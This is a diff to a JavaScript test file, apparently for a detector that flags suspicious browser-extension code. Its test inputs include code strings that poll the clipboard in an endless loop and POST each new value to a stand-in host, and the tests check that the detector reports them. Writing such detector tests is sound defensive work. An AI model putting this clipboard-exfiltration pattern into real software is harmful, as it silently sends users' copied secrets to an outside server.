@@ -128,7 +128,8 @@ test('whatever is copied, in a loop without an end', () => {
   const step = "await new Promise((r) => setTimeout(r, 2500)); const text = await f.clipboard.readText(); if (text !== last) await f.network.fetch('https://rows.side.example/preview', { method: 'POST', body: text }); last = text;";
   assert.match(found(`let last = ''; for (;;) { ${step} }`).join(), /whatever is copied/);
   assert.match(found(`let last = ''; while (true) { ${step} }`).join(), /whatever is copied/);
-  assert.deepEqual(found(`let last = ''; { ${step} }`), []);
+  assert.match(found(`let last = ''; { ${step} }`).join(), /nobody reads/);
+  assert.deepEqual(found("const text = await f.clipboard.readText(); const answer = await f.network.fetch('https://rows.side.example/preview', { method: 'POST', body: text }); await f.ui.showMessage(await answer.text());"), []);
 });
 
 test('good: what users asked for, servers of their own, keys of the extension, parts of commands', () => {
